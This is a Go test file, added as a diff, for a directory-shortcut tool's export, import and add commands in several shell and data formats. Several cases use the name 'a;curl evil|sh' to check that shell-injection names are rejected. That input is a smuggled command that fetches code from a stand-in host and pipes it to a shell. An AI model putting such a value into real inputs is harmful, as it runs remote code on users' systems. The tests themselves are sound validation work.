@@ -0,0 +1,340 @@
+package cd
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
+	"github.com/leep-frog/command/commandertest"
+	"github.com/leep-frog/command/commandtest"
+)
+
+// shortcutDot returns a configuration with the provided (directory) shortcuts.
+func shortcutDot(m map[string][]string) *Dot {
+	return &Dot{Shortcuts: map[string]map[string][]string{dirShortcutName: m}}
+}
+
+func writeTempFile(t *testing.T, name, contents string) string {
+	t.Helper()
+	f := filepath.Join(t.TempDir(), name)
+	if err := os.WriteFile(f, []byte(contents), 0644); err != nil {
+		t.Fatalf("Failed to write temp file: %v", err)
+	}
+	return f
+}
+
+func TestShortcutExport(t *testing.T) {
+	commandtest.StubValue(t, &dotName, "d")
+	shortcuts := map[string][]string{
+		"gp":  {"/home/me/go"},
+		"api": {"/home/me/src/mono", "services/api"},
+	}
+
+	for _, test := range []struct {
+		name    string
+		args    []string
+		m       map[string][]string
+		want    []string
+		wantErr error
+	}{
+		{
+			name: "exports as bash by default",
+			m:    shortcuts,
+			want: []string{
+				`aliaser api d '/home/me/src/mono' 'services/api'`,
+				`aliaser gp d '/home/me/go'`,
+			},
+		},
+		{
+			name: "exports as zsh named directories",
+			args: []string{"--format", "zsh"},
+			m:    shortcuts,
+			want: []string{
+				fmt.Sprintf(`hash -d api='%s'`, filepath.Join("/home/me/src/mono", "services/api")),
+				`hash -d gp='/home/me/go'`,
+			},
+		},
+		{
+			name: "exports as fish abbreviations",
+			args: []string{"-f", "fish"},
+			m:    shortcuts,
+			want: []string{
+				`abbr --add api d '/home/me/src/mono' 'services/api'`,
+				`abbr --add gp d '/home/me/go'`,
+			},
+		},
+		{
+			name: "exports as json",
+			args: []string{"-f", "json"},
+			m:    shortcuts,
+			want: []string{
+				`{`,
+				`  "api": [`,
+				`    "/home/me/src/mono",`,
+				`    "services/api"`,
+				`  ],`,
+				`  "gp": [`,
+				`    "/home/me/go"`,
+				`  ]`,
+				`}`,
+			},
+		},
+		{
+			name: "exports empty json",
+			args: []string{"-f", "json"},
+			want: []string{`{}`},
+		},
+		{
+			name: "exports as yaml",
+			args: []string{"-f", "yaml"},
+			m:    shortcuts,
+			want: []string{
+				`api:`,
+				`  - "/home/me/src/mono"`,
+				`  - "services/api"`,
+				`gp:`,
+				`  - "/home/me/go"`,
+			},
+		},
+		{
+			name: "exports yaml with escaped values",
+			args: []string{"-f", "yaml"},
+			m: map[string][]string{
+				"odd": {"/tmp/a\"b\\c\x07<d>\u00e9"},
+			},
+			want: []string{
+				`odd:`,
+				`  - "/tmp/a\"b\\c\u0007<d>é"`,
+			},
+		},
+		{
+			name: "fails to export unsafe names as shell commands",
+			m: map[string][]string{
+				"a;curl evil|sh": {"/tmp"},
+			},
+			wantErr: fmt.Errorf("invalid shortcut name \"a;curl evil|sh\" (names may only contain letters, digits, and `_.:-`, and can't start with `.`, `:`, or `-`)"),
+		},
+		{
+			name: "exports unsafe names as json",
+			args: []string{"-f", "json"},
+			m: map[string][]string{
+				"a;curl evil|sh": {"/tmp"},
+			},
+			want: []string{
+				`{`,
+				`  "a;curl evil|sh": [`,
+				`    "/tmp"`,
+				`  ]`,
+				`}`,
+			},
+		},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			d := shortcutDot(test.m)
+			etc := &commandtest.ExecuteTestCase{
+				Node:          d.Node(),
+				Args:          append([]string{"shortcuts", "export"}, test.args...),
+				SkipDataCheck: true,
+				WantErr:       test.wantErr,
+			}
+			if test.wantErr != nil {
+				etc.WantStderr = test.wantErr.Error() + "\n"
+			} else {
+				etc.WantStdout = strings.Join(append(test.want, ""), "\n")
+			}
+			commandertest.ExecuteTest(t, etc)
+		})
+	}
+}
+
+func TestShortcutImport(t *testing.T) {
+	for _, test := range []struct {
+		name       string
+		d          *Dot
+		contents   string
+		args       []string
+		want       *Dot
+		wantStderr string
+		wantErr    error
+	}{
+		{
+			name:     "imports json shortcuts",
+			d:        &Dot{},
+			contents: `{"gp": ["/home/me/go"], "api": ["/home/me/src/mono", "services/api"]}`,
+			want: shortcutDot(map[string][]string{
+				"gp":  {"/home/me/go"},
+				"api": {"/home/me/src/mono", "services/api"},
+			}),
+		},
+		{
+			name: "imports yaml shortcuts",
+			d:    &Dot{},
+			args: []string{"-f", "yaml"},
+			contents: strings.Join([]string{
+				"# team shortcuts",
+				"api:",
+				`  - "/home/me/src/mono"`,
+				`  - services/api`,
+			}, "\n"),
+			want: shortcutDot(map[string][]string{
+				"api": {"/home/me/src/mono", "services/api"},
+			}),
+		},
+		{
+			name: "imports yaml escapes",
+			d:    &Dot{},
+			args: []string{"-f", "yaml"},
+			contents: strings.Join([]string{
+				"odd:",
+				`  - "/tmp/a\"b\\c\u0007\x07\e\_\U0001F600"`,
+			}, "\n"),
+			want: shortcutDot(map[string][]string{
+				"odd": {"/tmp/a\"b\\c\x07\x07\x1b\u00a0\U0001F600"},
+			}),
+		},
+		{
+			name:       "fails on invalid yaml escape",
+			d:          &Dot{},
+			args:       []string{"-f", "yaml"},
+			contents:   "gp:\n  - \"/home\\q\"",
+			wantErr:    fmt.Errorf(`line 2: invalid quoted value "/home\q"`),
+			wantStderr: "line 2: invalid quoted value \"/home\\q\"\n",
+		},
+		{
+			name:       "does not overwrite existing shortcuts",
+			d:          shortcutDot(map[string][]string{"gp": {"/old"}}),
+			contents:   `{"gp": ["/home/me/go"], "b": ["/home/me/bin"]}`,
+			wantStderr: "Skipping shortcut \"gp\": already exists\n",
+			want: shortcutDot(map[string][]string{
+				"gp": {"/old"},
+				"b":  {"/home/me/bin"},
+			}),
+		},
+		{
+			name:     "overwrites existing shortcuts",
+			d:        shortcutDot(map[string][]string{"gp": {"/old"}}),
+			contents: `{"gp": ["/home/me/go"]}`,
+			args:     []string{"--overwrite"},
+			want: shortcutDot(map[string][]string{
+				"gp": {"/home/me/go"},
+			}),
+		},
+		{
+			name:       "fails on relative paths",
+			d:          &Dot{},
+			contents:   `{"gp": ["go"], "b": ["/home/me/bin"]}`,
+			wantErr:    fmt.Errorf(`shortcut "gp" must point to an absolute path; got "go"`),
+			wantStderr: "shortcut \"gp\" must point to an absolute path; got \"go\"\n",
+		},
+		{
+			name:       "fails on unsafe names",
+			d:          &Dot{},
+			contents:   `{"a;curl evil|sh": ["/tmp"]}`,
+			wantErr:    fmt.Errorf("invalid shortcut name \"a;curl evil|sh\" (names may only contain letters, digits, and `_.:-`, and can't start with `.`, `:`, or `-`)"),
+			wantStderr: "invalid shortcut name \"a;curl evil|sh\" (names may only contain letters, digits, and `_.:-`, and can't start with `.`, `:`, or `-`)\n",
+		},
+		{
+			name:       "fails on reserved names",
+			d:          &Dot{},
+			contents:   `{"add": ["/home/me/go"]}`,
+			wantErr:    fmt.Errorf(`cannot create shortcut for reserved value (add)`),
+			wantStderr: "cannot create shortcut for reserved value (add)\n",
+		},
+		{
+			name:       "fails on empty values",
+			d:          &Dot{},
+			contents:   `{"gp": []}`,
+			wantErr:    fmt.Errorf(`shortcut "gp" has no values`),
+			wantStderr: "shortcut \"gp\" has no values\n",
+		},
+		{
+			name:       "fails on invalid yaml",
+			d:          &Dot{},
+			args:       []string{"-f", "yaml"},
+			contents:   "gp: /home/me/go",
+			wantErr:    fmt.Errorf(`line 1: unsupported yaml syntax: "gp: /home/me/go"`),
+			wantStderr: "line 1: unsupported yaml syntax: \"gp: /home/me/go\"\n",
+		},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			f := writeTempFile(t, "shortcuts", test.contents)
+			commandertest.ExecuteTest(t, &commandtest.ExecuteTestCase{
+				Node:          test.d.Node(),
+				Args:          append([]string{"shortcuts", "import", f}, test.args...),
+				SkipDataCheck: true,
+				WantStderr:    test.wantStderr,
+				WantErr:       test.wantErr,
+			})
+			commandertest.ChangeTest(t, test.want, test.d, cmpopts.IgnoreUnexported(Dot{}), cmpopts.EquateEmpty())
+		})
+	}
+}
+
+func TestShortcutAdd(t *testing.T) {
+	dir := t.TempDir()
+	for _, test := range []struct {
+		name       string
+		args       []string
+		want       *Dot
+		wantStderr string
+		wantErr    error
+	}{
+		{
+			name: "adds shortcut",
+			args: []string{"work:api", dir},
+			want: shortcutDot(map[string][]string{"work:api": {dir}}),
+		},
+		{
+			name:       "fails on unsafe names",
+			args:       []string{"a;curl evil|sh", dir},
+			wantErr:    fmt.Errorf("invalid shortcut name \"a;curl evil|sh\" (names may only contain letters, digits, and `_.:-`, and can't start with `.`, `:`, or `-`)"),
+			wantStderr: "invalid shortcut name \"a;curl evil|sh\" (names may only contain letters, digits, and `_.:-`, and can't start with `.`, `:`, or `-`)\n",
+		},
+		{
+			name:       "fails on names that look like flags",
+			args:       []string{"-rf", dir},
+			wantErr:    fmt.Errorf("invalid shortcut name \"-rf\" (names may only contain letters, digits, and `_.:-`, and can't start with `.`, `:`, or `-`)"),
+			wantStderr: "invalid shortcut name \"-rf\" (names may only contain letters, digits, and `_.:-`, and can't start with `.`, `:`, or `-`)\n",
+		},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			commandtest.StubGetwd(t, dir, nil)
+			d := &Dot{}
+			commandertest.ExecuteTest(t, &commandtest.ExecuteTestCase{
+				Node:          d.Node(),
+				Args:          append([]string{"shortcuts", "add"}, test.args...),
+				OS:            &commandtest.FakeOS{},
+				SkipDataCheck: true,
+				WantStderr:    test.wantStderr,
+				WantErr:       test.wantErr,
+			})
+			commandertest.ChangeTest(t, test.want, d, cmpopts.IgnoreUnexported(Dot{}), cmpopts.EquateEmpty())
+		})
+	}
+}
+
+func TestParseShortcutsRoundTrip(t *testing.T) {
+	m := map[string][]string{
+		"api":   {"/home/me/src/mono", "services/api"},
+		"quote": {`/home/me/"weird" dir`},
+	}
+	for _, format := range importFormats {
+		t.Run(format, func(t *testing.T) {
+			lines, err := exportShortcuts(format, m)
+			if err != nil {
+				t.Fatalf("exportShortcuts(%s) returned error: %v", format, err)
+			}
+			got, err := parseShortcuts(format, []byte(strings.Join(lines, "\n")))
+			if err != nil {
+				t.Fatalf("parseShortcuts(%s) returned error: %v", format, err)
+			}
+			if diff := cmp.Diff(m, got); diff != "" {
+				t.Errorf("parseShortcuts(%s) returned incorrect shortcuts (-want, +got):\n%s", format, diff)
+			}
+		})
+	}
+}